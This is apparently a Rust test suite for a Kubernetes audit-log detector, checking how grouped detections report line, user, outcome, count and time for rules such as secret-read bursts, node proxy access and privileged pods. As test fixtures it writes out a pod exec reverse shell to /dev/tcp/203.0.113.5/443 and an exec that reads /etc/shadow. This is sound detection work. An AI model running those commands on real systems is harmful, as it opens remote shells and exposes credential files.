//! What a detection of several events says of them: where it stands, whose it is, what became of it, how many they were.

use std::sync::LazyLock;

use jiff::{SignedDuration, Timestamp};
use picket_audit::{Detector, Event, Position, Rule, Settings, builtin};
use picket_model::{Detection, Severity};
use serde_json::{Value, json};

const RBAC: &str = "rbac.authorization.k8s.io";
const MINUTE: i64 = 60;
const HOUR: i64 = 60 * MINUTE;
const DAY: i64 = 24 * HOUR;

fn time(second: i64) -> String {
    let start: Timestamp = "2026-01-01T00:00:00Z".parse().expect("a time");
    start.checked_add(SignedDuration::from_secs(second)).expect("a time").to_string()
}

/// A completed request of bob's at this second; `change` replaces top-level fields.
fn event(second: i64, change: Value) -> String {
    let mut event = json!({
        "kind": "Event", "apiVersion": "audit.k8s.io/v1", "level": "Metadata", "auditID": format!("id-{second}"),
        "stage": "ResponseComplete", "requestURI": format!("/{second}"), "verb": "get",
        "user": {"username": "bob", "groups": ["system:authenticated"]}, "sourceIPs": ["10.0.0.9"],
        "userAgent": "kubectl/v1.36.2", "responseStatus": {"code": 200}, "requestReceivedTimestamp": time(second),
        "stageTimestamp": time(second), "annotations": {"authorization.k8s.io/decision": "allow"}
    });
    event.as_object_mut().expect("an object").extend(change.as_object().expect("an object").clone());
    event.to_string()
}

fn detector(settings: &Settings) -> Detector {
    static RULES: LazyLock<Vec<Rule>> = LazyLock::new(|| builtin().expect("rules"));
    Detector::new(RULES.clone(), settings.clone())
}

/// Judges the lines; the memory is stored and taken over after each of the first, and sometimes later.
fn run_with(settings: &Settings, lines: &[String]) -> Vec<Detection> {
    let mut detector = self::detector(settings);
    let mut out = Vec::new();
    for (at, line) in lines.iter().enumerate() {
        let event = Event::parse(line.as_bytes()).expect("an event");
        detector.observe(&event, Position { file: "audit.log", line: at as u64 + 1 }, &mut out);
        if at < 6 || at % 50 == 0 {
            let mut next = self::detector(settings);
            next.restore(&detector.state().expect("state")).expect("restored");
            detector = next;
        }
    }
    detector.finish(&mut out);
    out
}

fn run(lines: &[String]) -> Vec<Detection> {
    run_with(&Settings::replay(), lines)
}

fn of<'d>(detections: &'d [Detection], rule: &str) -> Vec<&'d Detection> {
    detections.iter().filter(|detection| detection.rule == rule).collect()
}

/// The only detection of a rule.
fn only(lines: &[String], rule: &str) -> Detection {
    let detections = run(lines);
    let raised = of(&detections, rule);
    assert_eq!(raised.len(), 1, "{rule}: {raised:#?}");
    raised[0].clone()
}

#[test]
fn what_was_learnt_while_warming_up_stays_low() {
    let binding = |second: i64, account: &str| {
        event(
            second,
            json!({
                "verb": "create", "user": {"username": format!("system:serviceaccount:flux-system:{account}")},
                "objectRef": {"resource": "rolebindings", "apiGroup": RBAC, "namespace": "shop", "name": format!("b{second}")}
            }),
        )
    };
    let lines = [
        binding(10, "kustomize-controller"),
        binding(25 * HOUR, "kustomize-controller"),
        binding(26 * HOUR, "stranger"),
        // The first detection is over: the key is learnt all the same.
        binding(8 * DAY, "kustomize-controller"),
    ];
    let detections = run(&lines);
    let raised = of(&detections, "service-account-writes-rbac");
    let found: Vec<_> = raised.iter().map(|d| (d.line, d.severity, d.count)).collect();
    assert_eq!(found, [(1, Severity::Low, 2), (3, Severity::High, 1), (4, Severity::Low, 1)]);
}

#[test]
fn the_outcome_that_matters_most_is_told() {
    let proxy = |second: i64, code: u16| {
        let decision = if code == 403 { "forbid" } else { "allow" };
        event(
            second,
            json!({
                "objectRef": {"resource": "nodes", "subresource": "proxy", "name": "edge-1"},
                "requestURI": "/api/v1/nodes/edge-1/proxy/pods", "responseStatus": {"code": code},
                "annotations": {"authorization.k8s.io/decision": decision}
            }),
        )
    };
    let told = |lines: &[String], rule: &str| {
        let raised = only(lines, rule);
        (raised.outcome, raised.code, raised.verb, raised.line)
    };
    let allowed = || ("allowed".to_owned(), Some(200), "get".to_owned(), 1);
    assert_eq!(told(&[proxy(0, 403), proxy(20, 200), proxy(40, 404)], "node-proxy"), allowed());
    assert_eq!(told(&[proxy(0, 200), proxy(20, 403)], "node-proxy"), allowed());
    assert_eq!(told(&[proxy(0, 404), proxy(20, 403)], "node-proxy").0, "refused");
    assert_eq!(told(&[proxy(0, 403), proxy(20, 502)], "node-proxy").0, "failed");

    let exec = |second: i64, verb: &str, code: u16| {
        let uri = "/api/v1/namespaces/d/pods/p/exec?command=bash&command=-c&command=bash+-i+%3E%26+%2Fdev%2Ftcp%2F203.0.113.5%2F443";
        let object = json!({"resource": "pods", "subresource": "exec", "namespace": "d", "name": "p"});
        event(second, json!({"verb": verb, "requestURI": uri, "objectRef": object, "responseStatus": {"code": code}}))
    };
    let shell = told(&[exec(0, "get", 500), exec(1, "create", 101)], "exec-reverse-shell");
    assert_eq!(shell, ("allowed".to_owned(), Some(101), "create".to_owned(), 1));
}

#[test]
fn what_became_worse_is_told_at_once() {
    let proxy = |second: i64, code: u16, decision: &str| {
        event(
            second,
            json!({
                "objectRef": {"resource": "nodes", "subresource": "proxy", "name": "edge-1"},
                "requestURI": "/api/v1/nodes/edge-1/proxy/pods", "responseStatus": {"code": code},
                "annotations": {"authorization.k8s.io/decision": decision}
            }),
        )
    };
    let lines = [proxy(0, 403, "forbid"), proxy(1, 403, "forbid"), proxy(2, 200, "allow"), proxy(3, 200, "allow")];
    let detections = run_with(&Settings::default(), &lines);
    let told: Vec<_> = of(&detections, "node-proxy").iter().map(|d| (d.count, d.outcome.clone(), d.line)).collect();
    let allowed = || "allowed".to_owned();
    assert_eq!(told, [(1, "refused".to_owned(), 1), (3, allowed(), 1), (4, allowed(), 1)]);
}

#[test]
fn an_address_that_changed_stands_where_it_changed() {
    let used = |second: i64, ip: &str| {
        let user = json!({
            "username": "system:serviceaccount:shop:web", "extra": {"authentication.kubernetes.io/pod-uid": ["u1"]}
        });
        event(second, json!({"user": user, "sourceIPs": [ip], "objectRef": {"resource": "pods", "namespace": "shop"}}))
    };
    let hours = |hours: i64| (0..hours).map(move |hour| used(hour * HOUR, "10.42.3.3"));
    let lines: Vec<_> = hours(13).chain([used(12 * HOUR + 600, "10.42.9.9")]).collect();
    let raised = only(&lines, "sa-token-address-change");
    assert_eq!((raised.line, raised.audit_id.as_str(), raised.count), (14, "id-43800", 1));
    assert_eq!((raised.time.to_string(), raised.source.as_deref()), (time(43_800), Some("10.42.9.9")));
    assert_eq!(raised.audit_ids, ["id-43800"], "what came from the first address is no part of it");

    // An address in use all the time is known, however long ago it was first seen.
    let lines: Vec<_> = hours(24).chain([used(DAY + 1, "10.42.9.9"), used(DAY + 2, "10.42.3.3")]).collect();
    assert_eq!(only(&lines, "sa-token-address-change").source.as_deref(), Some("10.42.9.9"));
}

#[test]
fn a_sequence_begins_with_its_first_step() {
    let deploy = |second: i64, name: &str| {
        let object = json!({"resource": "deployments", "apiGroup": "apps", "namespace": "d", "name": name});
        event(second, json!({"verb": "create", "objectRef": object}))
    };
    let bind = event(
        102,
        json!({
            "verb": "create", "level": "Request", "objectRef": {"resource": "clusterrolebindings", "apiGroup": RBAC, "name": "rb"},
            "requestObject": {"roleRef": {"kind": "ClusterRole", "name": "cluster-admin"}, "subjects": []}
        }),
    );
    let lines = [deploy(100, "w0"), deploy(101, "w1"), bind, deploy(103, "w2"), deploy(104, "w3")];
    let raised = only(&lines, "rbac-change-then-workload");
    assert_eq!((raised.line, raised.audit_id.as_str(), raised.time.to_string()), (3, "id-102", time(102)));
    assert_eq!((raised.object.resource.as_str(), raised.object.name.as_str()), ("clusterrolebindings", "rb"));
    assert_eq!((raised.audit_ids, raised.count), (["id-102", "id-103", "id-104"].map(str::to_owned).to_vec(), 3));
    assert_eq!(raised.severity, Severity::Medium);
    assert!(of(&run(&lines[..2]), "rbac-change-then-workload").is_empty());
}

#[test]
fn who_and_what_are_those_of_the_event_it_stands_at() {
    let webhook = |second: i64| {
        event(
            second,
            json!({
                "verb": "create", "user": {"username": format!("u{second}")}, "sourceIPs": ["192.0.2.7", format!("10.0.0.{second}")],
                "objectRef": {"resource": "pods", "namespace": format!("d{second}"), "name": "p"}, "responseStatus": {
                    "code": 500, "message": "Internal error occurred: failed calling webhook \"v.kyverno.svc\": context deadline exceeded"
                }
            }),
        )
    };
    let lines: Vec<_> = (1..=6).map(webhook).collect();
    let raised = only(&lines, "admission-webhook-call-failed");
    assert_eq!((raised.line, raised.audit_id.as_str(), raised.user.as_str()), (1, "id-1", "u1"));
    assert_eq!((raised.object.namespace.as_str(), raised.object.name.as_str()), ("d1", "p"));
    assert_eq!((raised.source.as_deref(), raised.forgeable_sources), (Some("10.0.0.1"), vec!["192.0.2.7".to_owned()]));
    assert_eq!((raised.time.to_string(), raised.last_time.to_string(), raised.count), (time(1), time(6), 6));
}

#[test]
fn a_burst_counts_every_request_and_says_what_was_had() {
    let read = |second: i64, name: i64, code: u16| {
        let object = json!({"resource": "secrets", "namespace": "d", "name": format!("s{name}")});
        event(second, json!({"objectRef": object, "responseStatus": {"code": code}}))
    };
    // Each secret is asked for twice: not found, then found.
    let lines: Vec<_> = (0..20).map(|at| read(at, at / 2, if at % 2 == 0 { 404 } else { 200 })).collect();
    let raised = only(&lines, "secret-read-burst");
    assert_eq!((raised.count, raised.audit_ids.len(), raised.line), (20, 20, 1));
    assert_eq!((raised.object.name.as_str(), raised.outcome.as_str(), raised.code), ("s0", "allowed", Some(200)));

    let endless: Vec<_> =
        (0..200).map(|at| read(at, at / 199, 200)).chain((200..208).map(|at| read(at, at, 200))).collect();
    let raised = only(&endless, "secret-read-burst");
    assert_eq!((raised.count, raised.audit_ids.len()), (208, 100), "ids up to the limit");
}

/// A secret read at this second.
fn read(second: i64, name: i64) -> String {
    event(second, json!({"objectRef": {"resource": "secrets", "namespace": "d", "name": format!("s{name}")}}))
}

fn bursts(lines: Vec<String>) -> Vec<(u64, u64, String)> {
    of(&run(&lines), "secret-read-burst").iter().map(|d| (d.line, d.count, d.time.to_string())).collect()
}

#[test]
fn a_value_that_is_seen_again_counts_from_then_on() {
    let reads = |from: i64, names: std::ops::Range<i64>| names.zip(from..).map(|(name, second)| read(second, name));
    // Ten different ones within 29 seconds; some were read before.
    let lines = reads(0, 0..5).chain(reads(280, 0..5)).chain(reads(305, 5..10)).collect();
    assert_eq!(bursts(lines), [(1, 15, time(0))]);
    let lines = reads(0, 0..9).chain(reads(290, 0..9)).chain(reads(320, 9..10)).collect();
    assert_eq!(bursts(lines), [(1, 19, time(0))]);
    // What was read long before is none of it.
    let lines = reads(0, 0..9).chain(reads(400, 0..9)).chain(reads(420, 9..10)).collect();
    assert_eq!(bursts(lines), [(10, 10, time(400))]);
    // Twelve in turn, of which no five minutes see more than five.
    assert_eq!(bursts((0..60).map(|at| read(60 * at, at % 12)).collect()), []);
    // What comes late is a neighbour of what was seen since, too.
    let lines = reads(0, 0..1).chain([read(290, 0)]).chain((1..10).map(|at| read(20 - at, at))).collect();
    assert_eq!(bursts(lines), [(1, 11, time(0))]);
}

#[test]
fn a_value_that_comes_for_ever_costs_no_more() {
    let mut detector = detector(&Settings::replay());
    let mut lengths = Vec::new();
    for at in 0..600 {
        let line = read(10 * at, at % 5);
        let event = Event::parse(line.as_bytes()).expect("an event");
        detector.observe(&event, Position { file: "audit.log", line: 1 }, &mut Vec::new());
        if at % 7 == 0 {
            let state: Value = serde_json::from_slice(&detector.state().expect("state")).expect("JSON");
            lengths.push(state["windows"].to_string().len());
        }
    }
    let (early, late) = lengths.split_at(lengths.len() / 2);
    // The numbers themselves grow.
    assert!(late.iter().max() <= early.iter().max().map(|most| most + 200).as_ref(), "{early:?} {late:?}");
}

#[test]
fn a_session_whose_audit_id_another_has_too_is_raised_once() {
    let exec = |second: i64, user: &str, stage: &str, received: i64| {
        event(
            second,
            json!({
                "auditID": "11111111-2222-4333-8444-555555555555", "stage": stage, "user": {"username": user},
                "requestURI": format!("/api/v1/namespaces/d/pods/{user}/exec?command=cat&command=/etc/shadow"),
                "objectRef": {"resource": "pods", "subresource": "exec", "namespace": "d", "name": user},
                "responseStatus": {"code": 101}, "requestReceivedTimestamp": time(received)
            }),
        )
    };
    let lines = [
        exec(0, "eve", "ResponseStarted", 0),
        exec(1, "mallory", "ResponseStarted", 1),
        exec(2 * HOUR, "eve", "ResponseComplete", 0),
        exec(3 * HOUR, "mallory", "ResponseComplete", 1),
    ];
    let detections = run(&lines);
    for rule in ["pod-exec", "exec-sensitive-file"] {
        let raised: Vec<_> = of(&detections, rule).iter().map(|d| (d.line, d.count)).collect();
        assert_eq!(raised, [(1, 1), (2, 1)], "{rule}");
    }
}

#[test]
fn only_controllers_say_whose_an_object_is() {
    let pod = |second: i64, user: &str, agent: &str, name: &str| {
        let owner = json!([{"kind": "ReplicaSet", "name": "web-5d9c6b7f4d", "controller": true}]);
        event(
            second,
            json!({
                "verb": "create", "level": "Request", "user": {"username": user}, "userAgent": agent,
                "objectRef": {"resource": "pods", "namespace": "d", "name": name}, "requestObject": {
                    "metadata": {"name": name, "ownerReferences": owner},
                    "spec": {"containers": [{"name": "a", "image": "b", "securityContext": {"privileged": true}}]}
                }
            }),
        )
    };
    let deployment = event(
        0,
        json!({
            "verb": "create", "level": "Request", "user": {"username": "dev"},
            "objectRef": {"resource": "deployments", "apiGroup": "apps", "namespace": "d", "name": "web"},
            "requestObject": {"metadata": {"name": "web"}, "spec": {"template": {"spec": {
                "containers": [{"name": "a", "image": "b", "securityContext": {"privileged": true}}]
            }}}}
        }),
    );
    let controller = "system:serviceaccount:kube-system:replicaset-controller";
    let agent = format!("k3s/v1.36.2+k3s1 (linux/amd64) kubernetes/$Format/{controller}");
    let lines = [
        deployment,
        pod(1, controller, &agent, "web-5d9c6b7f4d-x2k9p"),
        pod(2, "eve", "kubectl/v1.36.2", "mine"),
        pod(3, controller, "kubectl/v1.36.2", "stolen"),
    ];
    let detections = run(&lines);
    let raised = of(&detections, "privileged-container");
    let found: Vec<_> = raised.iter().map(|d| (d.line, d.user.as_str(), d.count)).collect();
    assert_eq!(found, [(1, "dev", 2), (3, "eve", 1), (4, controller, 1)]);
}
